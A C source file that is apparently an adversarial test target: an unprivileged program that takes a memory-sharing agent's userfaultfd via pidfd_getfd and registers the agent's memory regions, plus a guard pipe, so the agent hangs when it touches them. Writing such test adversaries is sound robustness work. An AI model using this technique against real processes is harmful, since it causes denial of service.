/* A hostile program, of an ordinary user: waits for an agent, then makes a part of the agent's memory one on which whoever reads it through this process waits for ever, and
 * stays. tarpit PART [USER]: words, shared, operations, frames, code, all; or pipe: it writes into the pipe that guards its domain's frames from a page that nobody brings, and so keeps that locked.
 */
#include "target.h"
#include <dirent.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

enum { PAGES = 1024, CODE_BYTES = 0x5000, EXECUTOR = 0x78, TRACKING = 0x50, GUARD = 0x118, OPERATIONS = 0x1000, FRAMES = 0x19000 };

static int threads(void)
{
    DIR *folder = opendir("/proc/self/task");
    int count = 0;
    for (struct dirent *entry; (entry = readdir(folder));)
        count += entry->d_name[0] != '.';
    closedir(folder);
    return count;
}

static void find(unsigned long *code, unsigned long *shared, unsigned long *end)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    *code = *shared = *end = 0;
    while (fgets(line, sizeof line, maps)) {
        unsigned long from, to, inode;
        char protection[8], name[300] = "";
        sscanf(line, "%lx-%lx %7s %*s %*s %lu %299s", &from, &to, protection, &inode, name);
        if (!strncmp(protection, "r-xp", 4) && inode == 0 && to - from == CODE_BYTES && !name[0])
            *code = from;
        if (strstr(name, "samepage-agent"))
            *shared = from, *end = to;
    }
    fclose(maps);
}

static void lay(int uffd, unsigned long from, unsigned long bytes, int advice)
{
    struct uffdio_register range = {{from, bytes}, UFFDIO_REGISTER_MODE_MISSING, 0};
    if (ioctl(uffd, UFFDIO_REGISTER, &range))
        say("register %lx+%lx: %s", from, bytes, strerror(errno));
    if (madvise((void *)from, bytes, advice))
        say("discard %lx+%lx: %s", from, bytes, strerror(errno));
}

static int guard;
static void *missing;

static void *keep_pipe(void *unused)
{
    (void)unused;
    if (write(guard, missing, PAGE) < 0)
        say("write: %s", strerror(errno));
    return NULL;
}

int main(int count, char **arguments)
{
    const char *part = count > 1 ? arguments[1] : "all";
    unsigned user = count > 2 ? (unsigned)atoi(arguments[2]) : 1234;
    if (setresgid(user, user, user) || setresuid(user, user, user) || prctl(PR_SET_DUMPABLE, 1)) {
        say("setresuid: %s", strerror(errno));
        return 1;
    }
    unsigned char *memory = map_private(PAGES * PAGE);
    for (int i = 0; i < PAGES; i++)
        page_fill(memory + i * PAGE, 1 + i);
    say("ready");
    unsigned long code, shared, end;
    int wants_shared = strcmp(part, "words") && strcmp(part, "code") && strcmp(part, "pipe");
    for (find(&code, &shared, &end); threads() < 3 || !code || (wants_shared && !shared); find(&code, &shared, &end))
        pause_ms(2);
    pause_ms(300);
    unsigned long *words = (void *)(code + CODE_BYTES);
    int executor = (int)syscall(SYS_pidfd_open, (int)words[EXECUTOR / 8], O_EXCL);
    int uffd = (int)syscall(SYS_pidfd_getfd, executor, (int)words[TRACKING / 8], 0);
    if (uffd < 0) {
        say("pidfd_getfd: %s", strerror(errno));
        return 1;
    }
    /* The memory that is shared is emptied, not only unmapped here: the next look of this process at it waits. */
    if (!strcmp(part, "shared") || !strcmp(part, "all"))
        lay(uffd, shared, PAGE, MADV_REMOVE);
    if (!strcmp(part, "operations") || !strcmp(part, "all"))
        lay(uffd, shared + OPERATIONS, FRAMES - OPERATIONS, MADV_REMOVE);
    if (!strcmp(part, "frames") || !strcmp(part, "all"))
        lay(uffd, shared + FRAMES, end - shared - FRAMES, MADV_REMOVE);
    if (!strcmp(part, "words") || !strcmp(part, "all"))
        lay(uffd, code + CODE_BYTES, PAGE, MADV_DONTNEED);
    if (!strcmp(part, "code") || !strcmp(part, "all"))
        lay(uffd, code, CODE_BYTES, MADV_DONTNEED);
    if (!strcmp(part, "pipe")) {
        pthread_t thread;
        missing = map_private(PAGE);
        lay(uffd, (unsigned long)missing, PAGE, MADV_DONTNEED);
        guard = (int)syscall(SYS_pidfd_getfd, executor, (int)words[GUARD / 8], 0);
        if (guard < 0 || pthread_create(&thread, NULL, keep_pipe, NULL))
            say("the pipe: %s", strerror(errno));
        pause_ms(100);
    }
    say("laid");
    char command[64];
    while (next_command(command, sizeof command))
        say("ok");
    return 0;
}
